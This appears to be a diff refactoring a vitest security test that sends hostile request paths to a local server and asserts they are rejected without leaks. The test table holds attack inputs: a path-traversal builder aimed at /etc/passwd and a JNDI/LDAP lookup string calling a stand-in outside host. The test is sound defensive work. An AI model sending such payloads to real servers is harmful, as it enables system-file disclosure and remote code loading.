@@ -1,19 +1,8 @@
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { type ServerProcess, startServer } from '../../scripts/server-process.ts';
-import { type Fixture, makeFixture } from './fixture.ts';
+import { expect } from 'vitest';
+import { testWithServer } from './context.ts';
 import { getRaw } from './raw.ts';
 
-let fixture: Fixture;
-let server: ServerProcess;
-
-beforeAll(async () => {
-  fixture = await makeFixture();
-  server = await startServer(fixture.root, { LOG_LEVEL: 'trace' });
-});
-afterAll(async () => {
-  await server.stop();
-  fixture.remove();
-});
+const test = testWithServer({ LOG_LEVEL: 'trace' });
 
 const up = (step: string): string => `/${step.repeat(12)}etc/passwd`;
 
@@ -112,18 +101,15 @@ const targets: readonly string[] = [
   '/$%7Bjndi:ldap://elsewhere.example/a%7D',
 ];
 
-describe(`${targets.length} hostile addresses`, () => {
-  test.each(targets.map((target) => [target.slice(0, 60), target]))('%j', async (_, target) => {
-    const answer = await getRaw(server.port, target);
-    expect([400, 404]).toContain(answer.status);
-    expect(answer.headers['location']).toBeUndefined();
-    expect(answer.headers['set-cookie']).toBeUndefined();
-    expect(answer.body).not.toMatch(/outside of dist|root:|SECRET|"everywhere"/);
-    expect(answer.body).not.toContain('<script>alert');
-  });
+test.for(targets.map((target) => [target.slice(0, 60), target] as const))('%j', async ([, target], { server }) => {
+  const answer = await getRaw(server.port, target);
+  expect([400, 404]).toContain(answer.status);
+  expect(answer.headers['location']).toBeUndefined();
+  expect(answer.headers['set-cookie']).toBeUndefined();
+  expect(answer.body).not.toMatch(/outside of dist|root:|SECRET|"everywhere"|<script>alert/);
 });
 
-test('the server lives on, and nothing of it reached the log raw', async () => {
+test('the server lives on, and nothing of it reached the log raw', async ({ server }) => {
   expect((await fetch(`${server.origin}/healthz`)).status).toBe(200);
   const lines = server.output().split('\n');
   for (const line of lines) {
